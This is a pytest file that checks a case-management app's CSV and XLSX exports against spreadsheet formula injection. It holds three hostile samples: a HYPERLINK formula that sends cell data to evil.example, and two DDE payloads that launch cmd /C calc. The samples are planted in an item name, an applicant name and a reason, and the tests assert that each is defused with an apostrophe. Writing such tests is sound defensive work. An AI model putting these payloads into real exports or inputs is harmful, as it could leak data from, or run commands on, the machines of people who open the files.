"""Issue 10.6 — formula injection: whatever lands in an export (an item name another zone's admin
typed, an applicant's name, a clerk's reason) opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from states.reports.exports import FORMULA_TRIGGERS, defuse_cell
from storage.catalog.models import Item
from storage.db import transaction
from storage.zone.models import Zone
from tests.app_harness import RESIDENT_ID, Tongban
from tests.security.surfaces import browser

HOSTILE_ITEM = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_APPLICANT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_REASON = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "=HYPERLINK(\"x\")"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    assert defuse_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["天津测试科技有限公司", "2026-11-24 10:00", "'=already", "a=b", "", "—",
                                   3, -2.5, None])
def test_plain_text_and_numbers_pass_unchanged(value: object) -> None:
    assert defuse_cell(value) == value


@pytest.fixture(scope="module")
def hostile_case(surface_tb: Tongban) -> str:
    """TJ's admin named an item as a formula; a BJ clerk received and rejected a case of it."""
    with transaction(surface_tb.runtime.session_factory) as s:
        item = s.scalars(select(Item).join(Zone, Item.zone_id == Zone.id)
                         .where(Item.code == "SP-001", Zone.code == "TJ-TEDA")).unique().one()
        item.name = HOSTILE_ITEM
    r = surface_tb.receive(item_code="SP-001", applicant={"kind": "person", "name": HOSTILE_APPLICANT,
                                                          "id_number": RESIDENT_ID, "phone": "13812345678",
                                                          "address": "天津市滨海新区第三大街1号"})
    assert r.status_code == 201, r.text
    case_no = r.json()["case_no"]
    assert surface_tb.event("bj_clerk", case_no, "reject", reason=HOSTILE_REASON).status_code == 200
    return str(case_no)


def _never_a_formula(value: str) -> None:
    assert value[:1] not in FORMULA_TRIGGERS and value.lstrip(" ")[:1] not in FORMULA_TRIGGERS, value


def test_the_case_list_csv_defuses_every_hostile_cell(surface_tb: Tongban, hostile_case: str) -> None:
    r = browser(surface_tb, "bj_supervisor").get("/ui/dashboard/cases.csv", params={"item": "SP-001"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == hostile_case)
    assert "'" + HOSTILE_ITEM in row and "'" + HOSTILE_APPLICANT in row and "'" + HOSTILE_REASON in row
    for line in rows:
        for cell in line:
            _never_a_formula(cell)


def test_the_case_list_xlsx_holds_text_cells_never_formulas(surface_tb: Tongban, hostile_case: str) -> None:
    r = browser(surface_tb, "bj_supervisor").get("/ui/dashboard/cases.xlsx", params={"item": "SP-001"})
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                _never_a_formula(cell.value)
                values.append(cell.value)
    assert "'" + HOSTILE_ITEM in values and "'" + HOSTILE_APPLICANT in values and "'" + HOSTILE_REASON in values


def test_the_annual_evaluation_xlsx_keeps_the_hostile_item_name_as_text(surface_tb: Tongban,
                                                                         hostile_case: str) -> None:
    r = browser(surface_tb, "bj_supervisor").get("/ui/evaluation/report.xlsx", params={"year": "2026"})
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    _never_a_formula(cell.value)
                    seen.append(cell.value)
    assert "'" + HOSTILE_ITEM in seen
